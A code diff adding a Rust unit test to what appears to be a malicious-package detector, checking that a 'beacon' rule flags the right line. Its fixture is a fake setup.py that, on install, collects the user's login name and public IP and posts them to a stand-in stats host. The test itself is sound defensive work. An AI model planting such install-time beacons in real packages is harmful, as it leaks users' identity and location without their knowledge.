@@ -223,3 +223,15 @@ fn round_39m_hidden_fetch_eval_does_not_fire() {
         below_critical(&[("server/boot.js", body)], HIDDEN_EVAL);
     }
 }
+
+/// A lookup request before the beacon is a request too; the evidence is the call carrying a body.
+#[test]
+fn round_39m_beacon_evidence_is_the_call_with_a_body() {
+    let body = "import getpass, json, urllib.request\nfrom setuptools import setup\n\ndef call(u, payload=None):\n    return urllib.request.urlopen(u, payload).read()\n\nname = getpass.getuser()\nwhere = call('https://whatsmyip.example/raw')\nrecord = {'who': name, 'at': where.decode()}\ncall('https://stats.pkg-pulse.example/hit',\n     payload=json.dumps(record).encode())\nsetup(name='colorsys-extra')\n";
+    let lines: Vec<usize> = findings(&bundle(&[("setup.py", body)]))
+        .into_iter()
+        .filter(|f| f.rule_id == BEACON)
+        .map(|f| f.line)
+        .collect();
+    assert_eq!(lines, vec![10], "{lines:?}");
+}
